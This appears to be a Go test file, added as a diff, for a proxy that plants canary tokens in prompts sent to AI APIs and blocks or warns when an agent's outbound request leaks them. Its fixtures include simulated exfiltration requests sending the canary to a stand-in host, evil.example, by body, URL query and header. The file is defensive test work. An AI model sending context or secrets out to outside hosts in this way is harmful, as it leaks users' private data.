@@ -0,0 +1,178 @@
+package proxy
+
+import (
+	"encoding/json"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+)
+
+func TestInjectCanary(t *testing.T) {
+	tests := []struct {
+		name  string
+		body  string
+		field string
+	}{
+		{"system string", `{"model":"m","system":"Be helpful.","messages":[]}`, "system"},
+		{"system blocks", `{"system":[{"type":"text","text":"Be helpful."}],"messages":[]}`, "system"},
+		{"messages", `{"model":"m","messages":[{"role":"user","content":"hi"}]}`, "messages"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			modified, ok := injectCanary([]byte(tt.body), "ctx-abc")
+			if !ok {
+				t.Fatal("expected canary to be injected")
+			}
+			var payload map[string]json.RawMessage
+			if err := json.Unmarshal(modified, &payload); err != nil {
+				t.Fatalf("injected body is not JSON: %v", err)
+			}
+			if !strings.Contains(string(payload[tt.field]), "ctx-abc") {
+				t.Errorf("expected canary in %s, got %s", tt.field, payload[tt.field])
+			}
+			if !strings.Contains(string(modified), "Be helpful.") && !strings.Contains(string(modified), `"hi"`) {
+				t.Errorf("original prompt lost: %s", modified)
+			}
+		})
+	}
+
+	var messages []map[string]string
+	modified, _ := injectCanary([]byte(tests[2].body), "ctx-abc")
+	var payload map[string]json.RawMessage
+	json.Unmarshal(modified, &payload)
+	json.Unmarshal(payload["messages"], &messages)
+	if len(messages) != 2 || messages[0]["role"] != "system" {
+		t.Errorf("expected canary as a leading system message, got %+v", messages)
+	}
+
+	for _, body := range []string{`{"input":"hi"}`, `not json`, `["a"]`} {
+		if _, ok := injectCanary([]byte(body), "ctx-abc"); ok {
+			t.Errorf("expected %s to be left alone", body)
+		}
+	}
+}
+
+func TestCanaryWatcher_Check(t *testing.T) {
+	w := newCanaryWatcher(CanaryConfig{
+		Enabled:     true,
+		Tokens:      []string{"HONEY-123", " "},
+		InjectHosts: []string{"API.openai.com"},
+	})
+
+	req := httptest.NewRequest("POST", "https://evil.example/collect", strings.NewReader("data=HONEY-123"))
+	result, action := w.check(req, "evil.example", 1024)
+	if result == nil || result.Decision != DecisionBlock || action != CanaryActionBlock {
+		t.Fatalf("expected block for configured canary, got %+v %q", result, action)
+	}
+	threat := result.ThreatsFound[0]
+	if threat.Category != ThreatCanaryExfiltration || threat.Severity != "critical" || threat.Location != "body" {
+		t.Errorf("unexpected threat %+v", threat)
+	}
+	if body, _ := io.ReadAll(req.Body); string(body) != "data=HONEY-123" {
+		t.Errorf("body not restored for forwarding, got %q", body)
+	}
+
+	req = httptest.NewRequest("GET", "https://evil.example/?q="+url.QueryEscape("HONEY-123"), nil)
+	if result, _ := w.check(req, "evil.example", 1024); result == nil || result.ThreatsFound[0].Location != "url" {
+		t.Errorf("expected canary in URL to be found, got %+v", result)
+	}
+
+	req = httptest.NewRequest("POST", "https://api.openai.com/v1/chat/completions", strings.NewReader("HONEY-123"))
+	if result, _ := w.check(req, "api.openai.com", 1024); result != nil {
+		t.Error("inject hosts carry the agent's context and must not be checked")
+	}
+
+	req = httptest.NewRequest("GET", "https://example.com/", nil)
+	req.Header.Set("User-Agent", "agent/1.0")
+	if result, _ := w.check(req, "example.com", 1024); result != nil {
+		t.Errorf("unexpected result for clean request: %+v", result)
+	}
+
+	var disabled *canaryWatcher
+	if result, _ := disabled.check(req, "evil.example", 1024); result != nil {
+		t.Error("disabled watcher must not report")
+	}
+	if disabled.stats() != nil {
+		t.Error("disabled watcher must not report stats")
+	}
+}
+
+func TestCanaryWatcher_InjectAndExpire(t *testing.T) {
+	w := newCanaryWatcher(CanaryConfig{Enabled: true, Action: CanaryActionWarn, InjectHosts: []string{"*.anthropic.com"}})
+	now := time.Now()
+	w.now = func() time.Time { return now }
+
+	req := httptest.NewRequest("POST", "https://api.anthropic.com/v1/messages", strings.NewReader(`{"system":"s","messages":[]}`))
+	req.Header.Set("Content-Type", "application/json")
+	token := w.inject(req, "api.anthropic.com", 1024)
+	if token == "" {
+		t.Fatal("expected a canary to be injected")
+	}
+	body, _ := io.ReadAll(req.Body)
+	if !strings.Contains(string(body), token) || req.ContentLength != int64(len(body)) {
+		t.Errorf("expected canary in forwarded body with updated length, got %s (%d)", body, req.ContentLength)
+	}
+
+	leak := httptest.NewRequest("GET", "https://evil.example/", nil)
+	leak.Header.Set("X-Data", "ref "+token)
+	result, action := w.check(leak, "evil.example", 1024)
+	if result == nil || result.Decision != DecisionWarn || action != CanaryActionWarn {
+		t.Fatalf("expected warn for injected canary, got %+v %q", result, action)
+	}
+	if stats := w.stats(); stats.Injected != 1 || stats.Triggered != 1 || stats.Watched != 1 {
+		t.Errorf("unexpected stats %+v", stats)
+	}
+
+	now = now.Add(canaryTTL + time.Minute)
+	if result, _ := w.check(leak, "evil.example", 1024); result != nil {
+		t.Error("expired canaries must no longer be watched")
+	}
+
+	other := httptest.NewRequest("POST", "https://api.openai.com/v1/chat/completions", strings.NewReader(`{"messages":[]}`))
+	other.Header.Set("Content-Type", "application/json")
+	if token := w.inject(other, "api.openai.com", 1024); token != "" {
+		t.Error("only inject hosts get canaries")
+	}
+}
+
+func TestHandleHTTP_Canary(t *testing.T) {
+	var upstreamHits atomic.Int32
+	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		upstreamHits.Add(1)
+		w.Header().Set("Content-Type", "application/octet-stream")
+		w.Write([]byte("ok"))
+	}))
+	defer upstream.Close()
+
+	scanner := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		json.NewEncoder(w).Encode(ScanResult{Decision: DecisionAllow})
+	}))
+	defer scanner.Close()
+
+	config := newTestConfig(scanner.URL)
+	config.Scanning.Canary = CanaryConfig{Enabled: true, Tokens: []string{"HONEY-123"}}
+	s := newTestServer(t, config)
+
+	req := httptest.NewRequest("POST", upstream.URL+"/collect", strings.NewReader(`{"notes":"HONEY-123"}`))
+	rec := httptest.NewRecorder()
+	s.httpServer.Handler.ServeHTTP(rec, req)
+
+	if rec.Code != http.StatusForbidden {
+		t.Errorf("expected status %d, got %d", http.StatusForbidden, rec.Code)
+	}
+	if upstreamHits.Load() != 0 {
+		t.Error("blocked request must not reach upstream")
+	}
+	if !strings.Contains(rec.Body.String(), "Canary exfiltration") {
+		t.Errorf("expected canary reason in body, got %s", rec.Body.String())
+	}
+	if stats := s.canaries.stats(); stats.Triggered != 1 {
+		t.Errorf("expected one trigger, got %+v", stats)
+	}
+}